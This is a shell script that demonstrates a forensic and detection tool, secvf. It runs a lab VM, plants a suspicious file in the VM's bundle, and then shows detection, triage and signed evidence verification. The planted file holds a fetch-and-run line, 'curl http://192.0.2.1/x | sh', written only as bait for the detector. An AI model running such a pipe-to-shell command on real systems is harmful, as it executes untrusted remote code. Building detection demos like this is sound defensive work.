#!/bin/sh
# The demo of secvf's main job, on a real guest, in a throw-away home:
# a lab VM runs, something drops a file into its bundle, the detector
# records it, the analyst triages, and anyone verifies the bundle.
# The VM is left paused for inspection.
#
# usage: demo.sh SECVF
set -eu
secvf=$1
here=$(cd "$(dirname "$0")/.." && pwd)
export SECVF_HOME="${SECVF_DEMO_HOME:-$(mktemp -d /tmp/secvf-demo-XXXXXX)}"
export SECVF_ACCEL="${SECVF_ACCEL:-tcg}" # nested KVM can hang guests
chmod 700 "$SECVF_HOME"
vm=lab-demo

step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
run() { printf '$ %s\n' "$*"; "$@"; }

step "secvf $("$secvf" --version | cut -d' ' -f2); SECVF_HOME=$SECVF_HOME"

step "Build the test guest (Debian's cloud kernel and busybox, cached)"
eval "$(sh "$here/tests/guest/build-guest.sh" | grep -E '^(KERNEL|INITRD)=')"
echo "kernel $KERNEL"
echo "initrd $INITRD"

step "Create a lab VM with no way out (virtual network, no uplink)"
run "$secvf" vm create "$vm" --kernel "$KERNEL" --initrd "$INITRD" \
	--append "console=ttyS0 quiet panic=-1" --memory 256M --cpus 1 \
	--disk 256M --net virtual

step "Start it under its supervisor (QEMU, $SECVF_ACCEL)"
run "$secvf" vm start "$vm"
i=0
until grep -q SECVF-GUEST-READY "$SECVF_HOME/run/$vm/console.log" 2>/dev/null
do
	i=$((i + 1))
	[ $i -lt 600 ] || { echo "the guest did not boot" >&2; exit 1; }
	sleep 0.2
done
run "$secvf" vm list

step "Something outside secvf drops a file into the VM's bundle"
bundle=$("$secvf" vm show "$vm" --json | sed 's/.*"path":"\([^"]*\)".*/\1/')
run sh -c "echo 'curl http://192.0.2.1/x | sh' > '$bundle/dropper.sh'"
sleep 2
run "$secvf" events --vm "$vm" --min-severity CRITICAL

step "The analyst responds: one command"
run "$secvf" triage "$vm"
bundle_file=$(ls -t "$SECVF_HOME"/incidents/*.tar.zst | head -n 1)

step "Verify the bundle with secvf"
run "$secvf" evidence verify "$bundle_file"

step "...and without it: tar, sha256sum and openssl"
check=$(mktemp -d /tmp/secvf-check-XXXXXX)
run tar -xf "$bundle_file" -C "$check"
(cd "$check" && run sha256sum -c --quiet MANIFEST.sha256 &&
	echo "every member matches MANIFEST.sha256" &&
	run openssl pkeyutl -verify -pubin -inkey signer.pub -rawin \
		-in MANIFEST.sha256 -sigfile MANIFEST.sha256.sig)
rm -rf "$check"

step "The case it opened, and its chain of custody"
run "$secvf" case list
run "$secvf" custody verify 1

step "The VM is paused, not stopped: its memory is still there"
run "$secvf" vm show "$vm"
cat <<MSG

Look around with SECVF_HOME=$SECVF_HOME, e.g.
  SECVF_HOME=$SECVF_HOME $secvf vm console $vm   (after vm resume)
When done:
  SECVF_HOME=$SECVF_HOME $secvf vm stop $vm --force && rm -rf $SECVF_HOME
MSG
